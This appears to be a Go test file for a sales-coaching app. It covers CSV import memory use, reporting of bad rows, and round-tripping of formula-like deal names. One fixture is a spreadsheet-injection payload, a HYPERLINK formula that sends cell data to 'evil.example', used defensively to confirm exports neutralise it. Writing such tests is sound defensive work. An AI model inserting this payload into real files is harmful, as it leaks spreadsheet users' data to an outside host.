package db_test

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"salescoach/bot/render"
	"salescoach/coach"
	"salescoach/db/dbtest"
)

// writeHistory writes a stage-history file of deals deals, each with two to
// six rows and a third of them lost, and returns its size in bytes.
func writeHistory(t *testing.T, path string, deals int) int64 {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriter(f)
	w.WriteString(strings.Join(coach.HistoryColumns, ",") + "\n")
	t0 := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := 1; i <= deals; i++ {
		n := 2 + i%5
		for k, st := range coach.OpenStages[:n] {
			fmt.Fprintf(w, "G-%d,Generated Customer %d Ltd,U%d,%d,USD,%s,%s,\n", i, i, 1000+i%40, 1000+i%997, st,
				t0.Add(time.Duration(i*7)*time.Minute+time.Duration(k)*24*time.Hour).Format(time.RFC3339))
		}
		if i%3 == 0 {
			fmt.Fprintf(w, "G-%d,Generated Customer %d Ltd,U%d,%d,USD,lost,%s,price: too high\n", i, i, 1000+i%40, 1000+i%997,
				t0.Add(time.Duration(i*7)*time.Minute+time.Duration(n)*24*time.Hour).Format(time.RFC3339))
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	st, _ := f.Stat()
	f.Close()
	return st.Size()
}

// TestImportMemoryFlat: importing a file of a few MB keeps the Go heap within
// a bound far below what holding the file's rows would take (it grew by
// about 48 times the file's size), in one transaction. It runs alone, not in
// parallel, so that only the import moves the heap.
func TestImportMemoryFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("imports 30,000 rows")
	}
	s := dbtest.Shared(t)
	path := filepath.Join(t.TempDir(), "big.csv")
	size := writeHistory(t, path, 6000)
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	runtime.GC()
	var base runtime.MemStats
	runtime.ReadMemStats(&base)
	var peak atomic.Uint64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() { // samples the heap while the import runs
		defer wg.Done()
		var m runtime.MemStats
		for {
			runtime.ReadMemStats(&m)
			if m.HeapAlloc > peak.Load() {
				peak.Store(m.HeapAlloc)
			}
			select {
			case <-stop:
				return
			case <-time.After(2 * time.Millisecond):
			}
		}
	}()
	res, err := s.ImportCSV(context.Background(), dbtest.TeamID(t), f, time.Now())
	close(stop)
	wg.Wait()
	if err != nil {
		t.Fatal(err)
	}
	if res.NewDeals != 6000 {
		t.Errorf("%d new deals, want 6000", res.NewDeals)
	}
	grew := int64(peak.Load()) - int64(base.HeapAlloc)
	t.Logf("a %.1f MB file (%d rows): the heap grew by at most %.1f MB", float64(size)/1e6, res.Rows, float64(grew)/1e6)
	const bound = 40 << 20
	if grew > bound {
		t.Errorf("importing a %.1f MB file grew the heap by %.1f MB, more than %d MB", float64(size)/1e6, float64(grew)/1e6, bound>>20)
	}
}

// TestImportReportsEveryBadRow: a file larger than a batch, with a deal
// whose rows are at its start and its end and bad rows of every kind spread
// through it, reports every bad row with its line and imports nothing.
func TestImportReportsEveryBadRow(t *testing.T) {
	t.Parallel()
	s := dbtest.Shared(t)
	ctx := context.Background()
	team := dbtest.TeamID(t)
	// Known to the team: K-1 entered closing on 2026-03-01.
	known := coach.HistoryCSV([]coach.HistoryRow{
		{DealID: "K-1", Name: "Known", Owner: "U1", Stage: coach.Closing, At: time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)},
	})
	if _, err := s.ImportCSV(ctx, team, strings.NewReader(string(known)), time.Now()); err != nil {
		t.Fatal(err)
	}

	var b strings.Builder
	b.WriteString(strings.Join(coach.HistoryColumns, ",") + "\n")
	line := 1
	row := func(format string, args ...any) int {
		fmt.Fprintf(&b, format+"\n", args...)
		line++
		return line
	}
	at := func(i int) string {
		return time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Minute).Format(time.RFC3339)
	}
	row("S-1,Spread,U1,10,USD,prospecting,%s,", at(0))
	want := map[int]string{}
	want[row("B-1,Bad stage,U1,10,USD,qualifcation,%s,", at(1))] = "qualifcation"
	for i := 0; i < 5000; i++ {
		row("F-%d,Filler %d,U2,10,USD,contact,%s,", i, i, at(i))
		if i == 2500 {
			want[row("F-%d,Filler %d,U2,10,USD,contact,%s,", i, i, at(i+1))] = "consecutive rows"
		}
	}
	want[row("S-1,Spread,U1,10,USD,contact,%s,", at(-5))] = "out of order"
	want[row("B-2,Bad owner,nobody,10,USD,contact,%s,", at(3))] = "owner"
	row("S-1,Spread,U1,10,USD,won,%s,", at(9000))
	_, err := s.ImportCSV(ctx, team, strings.NewReader(b.String()), time.Now())
	var ie *coach.ImportError
	if !errors.As(err, &ie) {
		t.Fatalf("import: %v, want an import error", err)
	}
	got := map[int]string{}
	for _, r := range ie.Rows {
		got[r.Line] = render.ErrorMessage(r.Err, coach.EN)
	}
	for l, part := range want {
		if !strings.Contains(got[l], part) {
			t.Errorf("line %d: %q, want it to say %q", l, got[l], part)
		}
	}
	if len(got) != len(want) {
		t.Errorf("%d bad rows reported, want %d: %v", len(got), len(want), got)
	}
	if n, _ := s.CountDeals(ctx, team, "F-"); n != 0 {
		t.Errorf("%d deals imported from a refused file", n)
	}

	// Rows that do not fit a deal's recorded history, in a file whose rows
	// are good on their own, are reported too.
	late := strings.Join(coach.HistoryColumns, ",") + "\n" +
		"N-1,New,U1,,,contact," + at(1) + ",\n" +
		"K-1,Known,U1,,,won,2026-02-01T00:00:00Z,\n"
	_, err = s.ImportCSV(ctx, team, strings.NewReader(late), time.Now())
	if !errors.As(err, &ie) || len(ie.Rows) != 1 || ie.Rows[0].Line != 3 || !strings.Contains(render.ErrorMessage(ie.Rows[0].Err, coach.EN), "already has a stage entry") {
		t.Errorf("import: %v, want line 3 refused", err)
	}
	if n, _ := s.CountDeals(ctx, team, "N-"); n != 0 {
		t.Errorf("%d deals imported from a refused file", n)
	}
}

// TestImportFormulaRoundTrip: a deal named like a spreadsheet formula is
// exported as text and imported back under its own name.
func TestImportFormulaRoundTrip(t *testing.T) {
	t.Parallel()
	s := dbtest.Shared(t)
	ctx := context.Background()
	team, fresh := dbtest.TeamID(t), dbtest.TeamID(t)+"B"
	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Open CRM")`, "+1 555 0100", "@SUM(A1)", "-5 seats", "'=quoted"}
	for _, n := range names {
		newDeal(t, s, team, "U1", n)
	}
	rows, err := s.History(ctx, team, "")
	if err != nil {
		t.Fatal(err)
	}
	file := coach.HistoryCSV(rows)
	for _, n := range names {
		if strings.Contains(string(file), "\n"+n) || strings.Contains(string(file), ","+n) {
			t.Errorf("the export carries %q as a cell a spreadsheet runs:\n%s", n, file)
		}
	}
	if _, err := s.ImportCSV(ctx, fresh, strings.NewReader(string(file)), time.Now()); err != nil {
		t.Fatal(err)
	}
	back, err := s.History(ctx, fresh, "")
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range back {
		if r.Name != names[i] {
			t.Errorf("deal %s came back as %q, want %q", r.DealID, r.Name, names[i])
		}
	}
}
